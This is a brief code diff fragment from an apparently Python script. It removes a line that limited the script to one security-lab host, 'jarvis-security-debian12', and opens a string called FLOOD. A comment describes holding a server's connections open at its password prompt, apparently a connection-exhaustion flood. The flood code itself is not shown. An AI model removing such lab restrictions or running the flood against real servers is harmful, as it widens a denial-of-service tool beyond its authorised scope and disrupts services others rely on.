@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import subprocess
 
-ONLY_ON = ["jarvis-security-debian12"]
 # Speak as far as the server asks for a password, which takes one of its places, or not at all; and stay.
 FLOOD = r"""
 import socket, struct, sys, time
